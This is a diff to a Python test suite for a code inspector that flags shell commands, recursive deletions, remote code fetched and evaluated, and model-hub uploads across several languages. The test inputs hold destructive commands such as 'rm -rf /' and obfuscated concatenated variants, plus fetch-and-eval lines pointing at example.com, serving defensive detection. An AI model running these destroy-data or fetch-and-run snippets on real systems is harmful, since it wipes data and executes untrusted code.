@@ -113,6 +113,10 @@ def test_python_text_as_data_is_not_found(code: str) -> None:
         ("awk", 'BEGIN {"date" | getline x}', Findings(shell=("date",))),
         ("osascript", 'do shell script "rm -rf /"', Findings(shell=("rm -rf /",))),
         ("julia", "run(`rm -rf /`)", Findings(argvs=(("rm", "-rf", "/"),))),
+        ("javascript", "c = 'rm'; c += ' -rf x'; cp.execSync(c)", Findings(shell=("rm -rf x",))),
+        ("php", '$c = "rm"; $c .= " -rf x"; system($c);', Findings(shell=("rm -rf x",))),
+        ("ruby", 'c = "rm"; c << " -rf x"; system(c)', Findings(shell=("rm -rf x",))),
+        ("perl", '$c = "rm"; $c .= $x; system($c);', Findings(shell=(f"rm{HOLE}",))),
         ("r", 'unlink("x", recursive=TRUE)', Findings(deletes=(Delete("x", recursive=True),))),
     ],
 )
@@ -140,7 +144,19 @@ def test_other_languages_text_as_data_is_not_found(language: str, code: str) -> 
 def test_code_from_the_network_is_foreign() -> None:
     assert inspect_code("python", "import requests\nexec(requests.get(url).text)").foreign
     assert inspect_code("javascript", "fetch(u).then(r => r.text()).then(eval)").foreign
+    assert inspect_code("javascript", "require('https').get(u, r => r.on('data', c => eval(c)))").foreign
+    assert inspect_code("ruby", "eval URI.open('https://example.com/a').read").foreign
+    assert inspect_code("php", "eval(file_get_contents('https://example.com/a'));").foreign
+    assert not inspect_code("php", "eval(file_get_contents($path));").foreign
+    assert not inspect_code("php", "$r = curl_exec($c); assert($r !== false);").foreign
     assert not inspect_code("python", "import requests\nprint(requests.get(url).text)").foreign
+
+
+def test_an_upload_to_a_model_hub_is_the_command_that_it_comes_to() -> None:
+    assert inspect_code("python", "model.push_to_hub('acme/m')").argvs == (("hf", "upload", "acme/m"),)
+    assert inspect_code("python", "import huggingface_hub as h\nh.upload_folder(folder_path='x')").argvs
+    assert not inspect_code("python", "s3.upload_file('a', 'b', 'c')").argvs
+    assert inspect_code("python", "from huggingface_hub import delete_repo\ndelete_repo('acme/m')").losses
 
 
 def test_variables_that_double_each_other_do_not_take_for_ever() -> None:
